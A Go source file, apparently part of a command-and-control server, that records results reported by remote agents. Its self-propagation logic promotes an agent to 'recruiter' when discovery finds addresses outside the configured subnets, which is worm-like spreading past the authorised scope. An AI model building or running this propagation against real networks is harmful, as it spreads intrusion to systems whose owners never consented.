package engine

import (
	"context"
	"strings"
	"time"

	"github.com/google/uuid"
	"github.com/rs/zerolog/log"

	"github.com/Daemonophobic/phalerum-api/internal/database"
	"github.com/Daemonophobic/phalerum-api/pkg/models"
)

// Ingestor appends agent-reported job outputs and drives the
// self-propagation heuristic off discovery results.
type Ingestor struct {
	registry *Registry
	jobs     database.JobRepository
	outputs  database.OutputRepository
	subnets  *SubnetManager
}

// NewIngestor creates a new output ingestor.
func NewIngestor(registry *Registry, jobs database.JobRepository, outputs database.OutputRepository, subnets *SubnetManager) *Ingestor {
	return &Ingestor{
		registry: registry,
		jobs:     jobs,
		outputs:  outputs,
		subnets:  subnets,
	}
}

// AddOutput records a result submitted by an agent. A discovery result
// from a not yet upgraded agent additionally runs scope classification:
// any reported address outside every configured subnet promotes the agent
// into a recruiter for that address range. The output record is appended
// regardless of classification.
func (i *Ingestor) AddOutput(ctx context.Context, jobID, communicationToken, payload string, success bool) (*models.Output, error) {
	agent, err := i.registry.GetAgentByToken(ctx, communicationToken)
	if err != nil {
		return nil, err
	}

	job, err := i.jobs.Get(ctx, jobID)
	if err != nil {
		return nil, err
	}

	output := &models.Output{
		ID:        uuid.New().String(),
		JobID:     job.ID,
		AgentID:   agent.ID,
		Output:    payload,
		Success:   success,
		CreatedAt: time.Now(),
	}
	if err := i.outputs.Create(ctx, output); err != nil {
		return nil, err
	}

	if !agent.Upgraded && job.Command == CommandDiscoverIP {
		if err := i.classifyAndPromote(ctx, agent, payload); err != nil {
			return nil, err
		}
	}

	return output, nil
}

// ListOutputs returns a page of a job's outputs, newest first.
func (i *Ingestor) ListOutputs(ctx context.Context, jobID string, limit, offset int) ([]*models.Output, error) {
	if limit <= 0 || limit > 100 {
		limit = 50
	}
	if offset < 0 {
		offset = 0
	}
	return i.outputs.ListByJob(ctx, jobID, limit, offset)
}

// DeleteOutput soft-deletes an output record.
func (i *Ingestor) DeleteOutput(ctx context.Context, id string) error {
	return i.outputs.SoftDelete(ctx, id)
}

func (i *Ingestor) classifyAndPromote(ctx context.Context, agent *models.Agent, payload string) error {
	subnets, err := i.subnets.GetSubnets(ctx)
	if err != nil {
		return err
	}

	ips := splitAddresses(payload)
	_, outOfScope := classifyIPs(ips, subnets)
	if len(outOfScope) == 0 {
		return nil
	}

	log.Info().
		Str("agent_id", agent.ID).
		Strs("out_of_scope", outOfScope).
		Msg("Discovery reported out-of-scope addresses")
	return i.registry.Promote(ctx, agent, outOfScope)
}

// splitAddresses tokenizes a discovery payload on whitespace and commas.
func splitAddresses(payload string) []string {
	return strings.FieldsFunc(payload, func(r rune) bool {
		return r == ',' || r == ' ' || r == '\n' || r == '\r' || r == '\t'
	})
}
